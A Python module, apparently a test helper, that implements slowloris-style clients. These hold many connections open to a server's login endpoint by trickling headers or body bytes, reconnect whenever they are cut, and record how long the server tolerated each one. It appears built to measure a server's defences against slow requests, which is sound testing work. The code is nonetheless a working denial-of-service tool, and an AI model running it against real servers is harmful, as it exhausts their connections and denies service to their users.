"""Slowloris-style clients: connections that send their request a few bytes at a time.

Each client sends one more piece every `pace` seconds; when the server cuts it off, it counts the
cut and connects again at once, so `count` connections stay open for as long as the attack runs.
"""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass, field

SLOW_HEADERS = "headers"
SLOW_BODY = "body"


@dataclass
class _Connection:
    sock: socket.socket
    opened: float


@dataclass
class SlowClients:
    host: str
    port: int
    kind: str  # SLOW_HEADERS: one header line per pace; SLOW_BODY: one body byte per pace
    count: int
    pace: float = 2.0
    cuts: int = 0  # connections the server closed
    held: list[float] = field(default_factory=list)  # how long each cut connection lasted
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def _request_start(self) -> bytes:
        if self.kind == SLOW_HEADERS:
            return b"GET /accounts/login/ HTTP/1.1\r\nHost: localhost\r\n"
        return (
            b"POST /accounts/login/ HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
        )

    def _piece(self) -> bytes:
        return b"X-Slow: 1\r\n" if self.kind == SLOW_HEADERS else b"a"

    def _open(self) -> _Connection:
        sock = socket.create_connection((self.host, self.port), timeout=5)
        sock.sendall(self._request_start())
        sock.settimeout(0)  # from here on only non-blocking sends and peeks
        return _Connection(sock, time.monotonic())

    def _still_open(self, connection: _Connection) -> bool:
        try:
            connection.sock.recv(1, socket.MSG_PEEK)
            return False  # the server answered (408, 400) or closed: it let go either way
        except BlockingIOError:
            pass  # nothing to read: still open
        except OSError:
            return False
        try:
            connection.sock.send(self._piece())
        except (BlockingIOError, InterruptedError):
            pass  # send buffer full: still held open
        except OSError:
            return False
        return True

    def _run(self) -> None:
        connections = [self._open() for _ in range(self.count)]
        while not self._stop.wait(self.pace):
            for index, connection in enumerate(connections):
                if not self._still_open(connection):
                    self.cuts += 1
                    self.held.append(time.monotonic() - connection.opened)
                    connection.sock.close()
                    connections[index] = self._open()
        for connection in connections:
            connection.sock.close()

    def start(self) -> None:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        if self._thread:
            self._thread.join(timeout=30)
